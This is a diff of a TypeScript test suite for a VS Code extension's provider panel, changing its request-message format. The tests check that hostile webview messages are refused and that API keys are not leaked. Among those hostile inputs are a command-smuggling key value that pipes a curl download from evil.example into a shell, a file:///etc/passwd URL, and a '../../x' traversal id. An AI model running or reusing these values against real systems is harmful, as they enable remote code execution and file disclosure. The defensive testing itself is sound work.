@@ -4,7 +4,7 @@ import type { AddressInfo } from 'node:net';
 import * as vscode from 'vscode';
 import { Commands } from '../../src/platform/commands';
 import { ProviderError } from '../../src/core';
-import type { HostToWebview } from '../../src/shared/protocol';
+import type { HostToWebview, RequestName, Result } from '../../src/shared/protocol';
 import { removeProvider, testingApi } from './support';
 
 const CANARY = 'sk-proj-PANELCANARY9d8c7b6a5f4e3d2c1b0a';
@@ -41,12 +41,12 @@ describe('the provider panel host, driven as the webview drives it', () => {
         null,
         'ready',
         { type: 'deleteEverything' },
-        { type: 'request', id: 1, request: { action: 'exportKeys' } },
-        { type: 'request', id: 2, request: { action: 'removeProvider', providerId: id, confirmed: true } },
-        { type: 'request', id: 3, request: { action: 'setEnabled', providerId: id, enabled: 'no' } },
-        { type: 'request', id: 4, request: { action: 'addProvider', template: 'openai', baseUrl: 'file:///etc/passwd', models: [] } },
-        { type: 'request', id: 5, request: { action: 'setDefault', providerId: '../../x', modelId: 'gpt-4o' } },
-        { type: 'request', id: 'six', request: { action: 'detectLocal' } },
+        { type: 'request', id: 1, name: 'exportKeys', params: {} },
+        { type: 'request', id: 2, name: 'removeProvider', params: { providerId: id, confirmed: true } },
+        { type: 'request', id: 3, name: 'setEnabled', params: { providerId: id, enabled: 'no' } },
+        { type: 'request', id: 4, name: 'addProvider', params: { template: 'openai', baseUrl: 'file:///etc/passwd', models: [] } },
+        { type: 'request', id: 5, name: 'setDefault', params: { providerId: '../../x', modelId: 'gpt-4o' } },
+        { type: 'request', id: 'six', name: 'detectLocal', params: {} },
         { type: 'ready', extra: true },
       ];
       for (const raw of hostile) await controller.receive(raw);
@@ -54,17 +54,17 @@ describe('the provider panel host, driven as the webview drives it', () => {
       // A request whose id is readable is refused by name, so the panel does not wait; its values are not echoed.
       assert.deepEqual(posts.map((message) => (message.type === 'error' ? message.id : message.type)), [1, 2, 3, 4, 5]);
       for (const message of posts) {
-        assert.ok(message.type === 'error' && message.error.startsWith('Switchboard refused the request: request'), JSON.stringify(message));
+        assert.ok(message.type === 'error' && /^Switchboard refused the request: (name|params\.\w+): /.test(message.error), JSON.stringify(message));
         assert.doesNotMatch(message.error, /passwd|\.\.\/|exportKeys/);
       }
       posts.length = 0;
 
       // Well-formed, but about a provider that is not there: an error reply, and still nothing done.
-      await controller.receive({ type: 'request', id: 7, request: { action: 'setEnabled', providerId: 'not-there', enabled: false } });
+      await controller.receive({ type: 'request', id: 7, name: 'setEnabled', params: { providerId: 'not-there', enabled: false } });
       assert.deepEqual(posts, [{ type: 'error', id: 7, error: 'No provider "not-there": it was removed.' }]);
       // A provider that needs a key is not saved without one; a key that runs a command never comes from the webview.
-      await controller.receive({ type: 'request', id: 8, request: { action: 'addProvider', template: 'openai', baseUrl: 'https://gateway.example.test/v1', models: [] } });
-      await controller.receive({ type: 'request', id: 9, request: { action: 'addProvider', template: 'openai', baseUrl: 'https://gateway.example.test/v1', apiKey: '${command:curl https://evil.example | sh}', models: [] } });
+      await controller.receive({ type: 'request', id: 8, name: 'addProvider', params: { template: 'openai', baseUrl: 'https://gateway.example.test/v1', models: [] } });
+      await controller.receive({ type: 'request', id: 9, name: 'addProvider', params: { template: 'openai', baseUrl: 'https://gateway.example.test/v1', apiKey: '${command:curl https://evil.example | sh}', models: [] } });
       assert.deepEqual(posts.slice(1), [
         { type: 'error', id: 8, error: 'OpenAI needs an API key: enter it, then save.' },
         { type: 'error', id: 9, error: 'A ${command:…} key can only be entered with "Switchboard: Set API Key".' },
@@ -85,32 +85,34 @@ describe('the provider panel host, driven as the webview drives it', () => {
     });
     const { url, server, keys } = await openAiServer();
     let added: string | undefined;
+    /** The result of the request `id`, as its name declares it. */
+    const reply = <N extends RequestName>(id: number) => posts.flatMap((message) => (message.type === 'reply' && message.id === id ? [message.result as Result<N>] : []))[0];
     try {
       await controller.receive({ type: 'ready' });
       assert.equal(posts[0]?.type, 'state');
 
       // Without /v1 the model list is a 404: the models stage fails and the URL that works is offered.
-      await controller.receive({ type: 'request', id: 1, request: { action: 'testDraft', template: 'openai', baseUrl: url, apiKey: CANARY } });
-      const wrong = posts.find((message) => message.type === 'reply' && message.id === 1);
-      assert.ok(wrong?.type === 'reply' && wrong.report, JSON.stringify(posts.slice(-3)));
+      await controller.receive({ type: 'request', id: 1, name: 'testDraft', params: { template: 'openai', baseUrl: url, apiKey: CANARY } });
+      const wrong = { report: reply<'testDraft'>(1) };
+      assert.ok(wrong.report, JSON.stringify(posts.slice(-3)));
       assert.equal(wrong.report.ok, false);
       assert.equal(wrong.report.suggestedBaseUrl, `${url}/v1`);
       const streamed = posts.flatMap((message) => (message.type === 'stage' && message.id === 1 ? [`${message.stage.stage}:${message.stage.status}`] : []));
       assert.deepEqual(streamed, wrong.report.stages.map((stage) => `${stage.stage}:${stage.status}`), 'each stage was posted as it finished');
       assert.ok(streamed.some((stage) => stage.endsWith(':fail')), streamed.join(' '));
 
-      await controller.receive({ type: 'request', id: 2, request: { action: 'testDraft', template: 'openai', baseUrl: `${url}/v1`, apiKey: CANARY } });
-      const right = posts.find((message) => message.type === 'reply' && message.id === 2);
-      assert.ok(right?.type === 'reply' && right.report?.ok, JSON.stringify(right));
+      await controller.receive({ type: 'request', id: 2, name: 'testDraft', params: { template: 'openai', baseUrl: `${url}/v1`, apiKey: CANARY } });
+      const right = { report: reply<'testDraft'>(2) };
+      assert.ok(right.report?.ok, JSON.stringify(right));
       assert.deepEqual(right.report.stages.map((stage) => `${stage.stage}:${stage.status}`), ['connect:pass', 'tls:skip', 'auth:pass', 'models:pass', 'chat:skip']);
       const gpt4o = right.report.models?.find((model) => model.id === 'gpt-4o');
       assert.deepEqual([gpt4o?.contextWindow, gpt4o?.prices?.input, gpt4o?.prices?.output, gpt4o?.priceSource], [128_000, 2.5, 10, 'catalog']);
       assert.equal(registry.list().some((entry) => entry.baseUrl.startsWith(url)), false, 'a draft is not saved');
       assert.ok(keys.includes(`Bearer ${CANARY}`), 'the typed key was used for the test');
 
-      await controller.receive({ type: 'request', id: 3, request: { action: 'addProvider', template: 'openai', name: 'Panel OpenAI', baseUrl: `${url}/v1`, apiKey: CANARY, models: ['gpt-4o', 'gpt-4o-mini'], defaultModel: 'gpt-4o-mini' } });
-      const saved = posts.find((message) => message.type === 'reply' && message.id === 3);
-      assert.ok(saved?.type === 'reply' && saved.providerId, JSON.stringify(saved));
+      await controller.receive({ type: 'request', id: 3, name: 'addProvider', params: { template: 'openai', name: 'Panel OpenAI', baseUrl: `${url}/v1`, apiKey: CANARY, models: ['gpt-4o', 'gpt-4o-mini'], defaultModel: 'gpt-4o-mini' } });
+      const saved = reply<'addProvider'>(3);
+      assert.ok(saved?.providerId, JSON.stringify(saved));
       added = saved.providerId;
       const entry = registry.get(added)!;
       assert.deepEqual([entry.name, entry.models.map((model) => model.id), entry.defaultModel], ['Panel OpenAI', ['gpt-4o-mini', 'gpt-4o'], 'gpt-4o-mini']);
@@ -124,16 +126,15 @@ describe('the provider panel host, driven as the webview drives it', () => {
 
       // The fallback order saved from the panel, and each entry's circuit as the router sees it.
       const { routing } = await testingApi();
-      await controller.receive({ type: 'request', id: 4, request: { action: 'saveFallback', steps: [{ provider: added, model: 'gpt-4o' }] } });
+      await controller.receive({ type: 'request', id: 4, name: 'saveFallback', params: { steps: [{ provider: added, model: 'gpt-4o' }] } });
       assert.deepEqual(vscode.workspace.getConfiguration('switchboard.fallback').get('chain'), [{ provider: added, model: 'gpt-4o' }]);
       for (let failure = 0; failure < 3; failure++) routing.circuits.failed(routing.circuits.tryAcquire(`${added}/gpt-4o`)!, new ProviderError('overloaded', 'OpenAI is overloaded (503)'));
       await new Promise((resolve) => setTimeout(resolve, 50));
       const latest = posts.filter((message) => message.type === 'state').at(-1);
       const step = latest?.type === 'state' ? latest.state.fallback.steps[0] : undefined;
       assert.deepEqual([step?.provider, step?.model, step?.providerName, step?.circuit, step?.failures, typeof step?.retryAt], [added, 'gpt-4o', 'Panel OpenAI', 'open', 3, 'number']);
-      await controller.receive({ type: 'request', id: 5, request: { action: 'audit' } });
-      const audit = posts.find((message) => message.type === 'reply' && message.id === 5);
-      assert.match(audit?.type === 'reply' ? (audit.audit?.[0]?.detail ?? '') : '', new RegExp(`chain set in the panel: ${added}/gpt-4o`));
+      await controller.receive({ type: 'request', id: 5, name: 'audit', params: {} });
+      assert.match(reply<'audit'>(5)?.[0]?.detail ?? '', new RegExp(`chain set in the panel: ${added}/gpt-4o`));
 
       // Canary: of everything posted to the webview, nothing holds the key or a long part of it.
       const sent = JSON.stringify(posts);
